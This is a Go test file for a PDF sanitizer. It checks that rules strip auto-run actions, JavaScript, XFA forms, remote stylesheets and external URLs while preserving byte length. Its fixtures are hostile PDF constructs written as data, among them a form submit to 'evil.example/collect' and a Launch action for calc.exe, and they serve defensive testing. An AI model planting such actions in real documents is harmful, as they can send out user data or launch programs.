/*
 * This file is subject to the terms and conditions defined in
 * file 'LICENSE.md', which is part of this source code package.
 */

package sanitize

import (
	"bytes"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func allTrueOptions() SanitizeOptions {
	return SanitizeOptions{RemoveLinks: true, RemoveForms: true, RemoveJavascript: true}
}

func TestRuleOpenActionBlanksDictionaryLiteral(t *testing.T) {
	src := []byte("/OpenAction << /S /URI /URI (http://evil.example) >> /Type /Catalog")
	buf := append([]byte(nil), src...)
	idx := BuildStreamRegionIndex(buf)
	var report SanitizeReport

	ruleOpenAction(buf, idx, &report)

	require.Len(t, buf, len(src))
	require.NotContains(t, string(buf), "/OpenAction")
	require.Equal(t, []string{"Removed OpenAction"}, report.Items)
	require.Contains(t, string(buf), "/Type /Catalog")
}

func TestRuleAdditionalActionsBlanksAADict(t *testing.T) {
	src := []byte("/AA << /O 5 0 R >> /Type /Page")
	buf := append([]byte(nil), src...)
	idx := BuildStreamRegionIndex(buf)
	var report SanitizeReport

	ruleAdditionalActions(buf, idx, &report)

	require.Len(t, buf, len(src))
	require.NotContains(t, string(buf), "/AA")
	require.Equal(t, []string{"Removed Additional Actions dictionary"}, report.Items)
}

func TestRuleNamesJavaScriptSubstitutesEmptyNames(t *testing.T) {
	src := []byte("/Names<</JavaScript<</Foo 1 0 R>>>>")
	buf := append([]byte(nil), src...)
	idx := BuildStreamRegionIndex(buf)
	var report SanitizeReport

	ruleNamesJavaScript(buf, idx, &report)

	require.Len(t, buf, len(src))
	require.True(t, strings.HasPrefix(string(buf), "/Names<<>>"))
	require.Equal(t, []string{"Removed Names/JavaScript entry"}, report.Items)
}

func TestRuleXFAReferenceBlanksIndirectReference(t *testing.T) {
	src := []byte("/XFA 12 0 R /Type /AcroForm")
	buf := append([]byte(nil), src...)
	idx := BuildStreamRegionIndex(buf)
	var report SanitizeReport

	ruleXFAReference(buf, idx, &report)

	require.Len(t, buf, len(src))
	require.NotContains(t, string(buf), "/XFA")
	require.Equal(t, []string{"Removed XFA form reference"}, report.Items)
}

func TestRuleXFASubmitURLsPadsOnlyTheURLPortion(t *testing.T) {
	src := []byte("1 0 obj\n<< /Subtype /XML /Length 80 >>\nstream\n" +
		"<?xml version=\"1.0\"?><xdp:submit target=\"http://evil.example/collect\"/>\n" +
		"endstream\nendobj\n")
	buf := append([]byte(nil), src...)
	idx := BuildStreamRegionIndex(buf)
	require.Len(t, idx.Regions, 1)
	require.Equal(t, RegionXML, idx.Regions[0].Class)

	var report SanitizeReport
	ruleXFASubmitURLs(buf, idx, &report)

	require.Len(t, buf, len(src))
	require.NotContains(t, string(buf), "http://evil.example/collect")
	require.Contains(t, string(buf), "about:blank")
	require.Contains(t, string(buf), "<xdp:submit target=")
	require.Equal(t, []string{"Neutralized XFA submit URL"}, report.Items)
}

func TestRuleXFASubmitTagsBlanksEntireTag(t *testing.T) {
	src := []byte("before <xdp:submit target=\"about:blank\"/> after </xdp:submit> tail")
	buf := append([]byte(nil), src...)
	idx := BuildStreamRegionIndex(buf)
	var report SanitizeReport

	ruleXFASubmitTags(buf, idx, &report)

	require.Len(t, buf, len(src))
	require.NotContains(t, string(buf), "<xdp:submit")
	require.NotContains(t, string(buf), "</xdp:submit>")
	require.Equal(t, []string{"Removed 2 XFA submit tags"}, report.Items)
}

func TestRuleXMLStylesheetBlanksProcessingInstruction(t *testing.T) {
	src := []byte("<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/s.xsl\"?> <root/>")
	buf := append([]byte(nil), src...)
	idx := BuildStreamRegionIndex(buf)
	var report SanitizeReport

	ruleXMLStylesheet(buf, idx, &report)

	require.Len(t, buf, len(src))
	require.NotContains(t, string(buf), "xml-stylesheet")
	require.Equal(t, []string{"Removed XML stylesheet reference"}, report.Items)
}

func TestRuleActionNeutralizationSubstitutesSAction(t *testing.T) {
	src := []byte("/S /Launch /F (calc.exe)")
	buf := append([]byte(nil), src...)
	idx := BuildStreamRegionIndex(buf)
	var report SanitizeReport

	ruleActionNeutralization(buf, idx, allTrueOptions(), &report)

	require.Len(t, buf, len(src))
	require.True(t, strings.HasPrefix(string(buf), "/S /Next"))
	require.NotContains(t, string(buf), "/Launch")
	require.Equal(t, []string{"Neutralized action"}, report.Items)
}

func TestRuleJSLiteralEmptiesParenthesizedBody(t *testing.T) {
	src := []byte("/JS (app.alert(1))")
	buf := append([]byte(nil), src...)
	idx := BuildStreamRegionIndex(buf)
	var report SanitizeReport

	ruleJSLiteral(buf, idx, &report)

	require.Len(t, buf, len(src))
	require.True(t, strings.HasPrefix(string(buf), "/JS()"))
	require.NotContains(t, string(buf), "app.alert")
	require.Equal(t, []string{"Emptied JavaScript literal"}, report.Items)
}

func TestRuleUNCURLBlanksEntireSpan(t *testing.T) {
	src := []byte("\\\\http://evil.example\\a.xslt end")
	buf := append([]byte(nil), src...)
	idx := BuildStreamRegionIndex(buf)
	var report SanitizeReport

	ruleUNCURL(buf, idx, &report)

	require.Len(t, buf, len(src))
	require.NotContains(t, string(buf), "http://")
	require.Equal(t, []string{"Removed UNC-embedded URL"}, report.Items)
}

func TestRuleBareURLSkipsXMLNamespaceDeclarations(t *testing.T) {
	src := []byte(`xmlns:x="http://www.w3.org/1999/XSL/Transform"`)
	buf := append([]byte(nil), src...)
	idx := BuildStreamRegionIndex(buf)
	var report SanitizeReport

	ruleBareURL(buf, idx, &report)

	require.Equal(t, src, buf)
	require.Empty(t, report.Items)
}

func TestRuleBareURLRewritesExternalURL(t *testing.T) {
	src := []byte(`/URI (https://evil.example/x) `)
	buf := append([]byte(nil), src...)
	idx := BuildStreamRegionIndex(buf)
	var report SanitizeReport

	ruleBareURL(buf, idx, &report)

	require.Len(t, buf, len(src))
	require.NotContains(t, string(buf), "evil.example")
	require.Contains(t, string(buf), "about:blank")
	require.Equal(t, []string{"Removed external URL"}, report.Items)
}

func TestRuleAcroFormBlanksDictionary(t *testing.T) {
	src := []byte("/AcroForm << /Fields [] >> /Type /Catalog")
	buf := append([]byte(nil), src...)
	idx := BuildStreamRegionIndex(buf)
	var report SanitizeReport

	ruleAcroForm(buf, idx, &report)

	require.Len(t, buf, len(src))
	require.NotContains(t, string(buf), "/AcroForm")
	require.Equal(t, []string{"Removed AcroForm"}, report.Items)
}

func TestByteLevelSanitizeScenarioOpenActionURI(t *testing.T) {
	src := []byte("/OpenAction << /S /URI /URI (http://evil.example) >>")
	out, report := ByteLevelSanitize(src, allTrueOptions())

	require.Len(t, out, len(src))
	require.NotContains(t, string(out), "/OpenAction")
	require.NotContains(t, string(out), "evil.example")
	require.Contains(t, report.Items, "Removed OpenAction")
}

func TestByteLevelSanitizePreservesLength(t *testing.T) {
	src := []byte("%PDF-1.7\n/OpenAction << /S /URI /URI (http://evil.example) >>\n" +
		"/AcroForm << /Fields [] >>\n/JS (alert(1))\n")
	out, _ := ByteLevelSanitize(src, allTrueOptions())
	require.Len(t, out, len(src))
}

func TestByteLevelSanitizeIsIdempotent(t *testing.T) {
	src := []byte("/OpenAction << /S /URI /URI (http://evil.example) >> /AcroForm << /Fields [] >>")
	first, _ := ByteLevelSanitize(src, allTrueOptions())
	second, secondReport := ByteLevelSanitize(first, allTrueOptions())

	require.Equal(t, first, second)
	require.Empty(t, secondReport.Items)
}

func TestByteLevelSanitizeNoOpOnCleanInput(t *testing.T) {
	src := []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n")
	out, report := ByteLevelSanitize(src, allTrueOptions())

	require.Equal(t, src, out)
	require.Empty(t, report.Items)
}

func TestByteLevelSanitizeAlwaysRemovesOpenActionRegardlessOfOptions(t *testing.T) {
	src := []byte("/OpenAction << /S /URI /URI (http://evil.example) >>")
	out, report := ByteLevelSanitize(src, SanitizeOptions{})

	require.Len(t, out, len(src))
	require.NotContains(t, string(out), "/OpenAction")
	require.Contains(t, report.Items, "Removed OpenAction")
}

func TestByteLevelSanitizeSkipsOptionalRulesWhenAllOptionsFalse(t *testing.T) {
	src := []byte("/AcroForm << /Fields [] >> /JS (alert(1)) http://evil.example/x")
	out, report := ByteLevelSanitize(src, SanitizeOptions{})

	require.Equal(t, src, out)
	require.Empty(t, report.Items)
}

func TestByteLevelSanitizeLeavesBinaryRegionsUntouched(t *testing.T) {
	binaryPayload := []byte("http://evil.example binary noise \x00\x01\x02")
	src := []byte("1 0 obj\n<< /Length 40 >>\nstream\n")
	src = append(src, binaryPayload...)
	src = append(src, []byte("\nendstream\nendobj\n")...)

	out, _ := ByteLevelSanitize(src, allTrueOptions())
	require.Equal(t, src, out)
}

func TestByteLevelSanitizePreservesNamespaceDeclarations(t *testing.T) {
	src := []byte(`<x xmlns:x="http://www.w3.org/1999/XSL/Transform">content</x>`)
	out, _ := ByteLevelSanitize(src, allTrueOptions())
	require.True(t, bytes.Contains(out, []byte(`xmlns:x="http://www.w3.org/1999/XSL/Transform"`)))
}
